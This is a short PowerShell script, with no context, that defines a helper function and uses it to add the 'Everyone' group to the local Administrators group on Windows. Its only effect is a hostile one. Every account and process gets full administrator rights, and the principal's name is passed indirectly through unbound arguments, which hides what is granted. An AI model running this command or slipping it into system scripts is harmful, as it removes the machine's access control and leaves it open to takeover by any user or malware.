function Set-Member { param($Group) Add-LocalGroupMember $Group $MyInvocation.UnboundArguments[0] }
Set-Member Administrators Everyone
